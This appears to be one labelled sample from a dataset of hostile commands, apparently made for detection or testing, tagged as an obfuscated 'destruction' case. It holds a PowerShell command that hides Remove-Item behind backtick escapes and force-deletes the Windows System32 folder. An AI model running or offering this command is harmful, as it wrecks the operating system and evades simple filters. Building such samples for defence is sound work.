# description: Hides Remove-Item with backticks inside the cmdlet name and deletes System32.
# family: destruction
# obfuscated: yes
Re`m`ove-`Item C:\Windows\System32 -Recurse -Force
